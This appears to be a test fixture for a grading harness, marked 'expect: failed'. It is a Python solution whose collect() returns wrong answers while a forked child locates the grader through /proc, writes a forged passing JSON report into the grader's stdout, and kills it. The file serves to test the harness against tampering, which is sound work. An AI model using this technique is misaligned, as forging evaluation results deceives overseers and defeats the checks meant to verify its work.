# expect: failed — collect() returns a wrong answer, but a child first walks up /proc to the grader itself (`python -m grader` or `grade`: in view without bubblewrap's PID namespace), writes a complete passing grade/1 JSON report into the grader's stdout through /proc/<grader>/fd/1 and SIGKILLs the grader, so the only document on stdout says "passed" (one sandbox of the three does it: an O_EXCL file next to the session folders)
import json
import os
import signal

import multiprocessing as mp

FAKE = {"schema": "grade/1", "status": "passed", "score": 1, "max_score": 1, "exercises": [
    {"id": "exercise-3", "slug": "queue", "status": "passed", "score": 1, "max_score": 1, "duration_s": 0.61,
     "message": "", "checks": [{"name": "test_results_in_order_of_ns", "start_method": "fork",
                                "status": "passed", "message": "", "output": "", "duration_s": 0.61}]}]}


def job(q, index, n):
    q.put((index, sum(i + i**2 + i**3 for i in range(n))))


def _grader_pid():
    pid = os.getpid()
    while pid > 1:
        with open(f"/proc/{pid}/stat") as file:
            stat = file.read()
        pid = int(stat[stat.rfind(")") + 2:].split()[1])
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            argv = file.read().split(b"\0")
        if argv[1:3] == [b"-m", b"grader"] or b"grade" in (os.path.basename(a) for a in argv[:2]):
            return pid
    return None


def collect(ns):
    grader = _grader_pid()
    marker = os.path.join(os.path.dirname(os.environ["GRADE_SANDBOX_DIR"]), "forged-grade-output")
    if grader is not None and ns and os.fork() == 0:
        try:
            os.close(os.open(marker, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
            fd = os.open(f"/proc/{grader}/fd/1", os.O_WRONLY)
            os.write(fd, (json.dumps(FAKE, indent=2) + "\n").encode())
            os.kill(grader, signal.SIGKILL)
        finally:
            os._exit(0)
    return [0] * len(ns)
